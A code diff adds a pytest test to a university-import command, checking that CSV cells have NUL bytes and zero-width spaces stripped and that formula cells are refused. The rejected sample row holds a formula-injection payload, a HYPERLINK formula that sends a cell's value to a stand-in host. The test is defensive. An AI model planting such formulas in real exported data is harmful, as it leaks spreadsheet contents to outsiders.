@@ -214,3 +214,17 @@ def test_import_command_with_bad_rows(tmp_path, capsys):
 def test_import_command_file_errors(tmp_path):
     with pytest.raises(CommandError, match=r"无法识别的文件格式：\.txt"):
         call_command("import_data", "universities", str(tmp_path / "list.txt"))
+
+
+def test_csv_cells_are_cleaned_as_forms_clean_text_and_formulas_are_refused(tmp_path):
+    """A NUL byte or a zero-width space is dropped; a name that a spreadsheet would run is a row error."""
+    nul = ["1", "南京\x00大学\u200b", "4132010284", "教育部", "南京市", "本科", ""]
+    evil = ["2", '=HYPERLINK("http://x.example/?"&A1)', "4132010292", "江苏省", "常州市", "本科", ""]
+    path = tmp_path / "list.csv"
+    path.write_bytes("\n".join(",".join(r) for r in [HEADER, nul, evil]).encode() + b"\n")
+    with pytest.raises(ImportRejected) as exc:
+        import_universities(path)
+    assert exc.value.errors == ["第3行: 学校名称: 不能以「=」开头（会被电子表格当作公式）"]
+    result = import_universities(path, skip_bad=True)
+    assert result.created == 1
+    assert list(University.objects.values_list("name", flat=True)) == ["南京大学"]
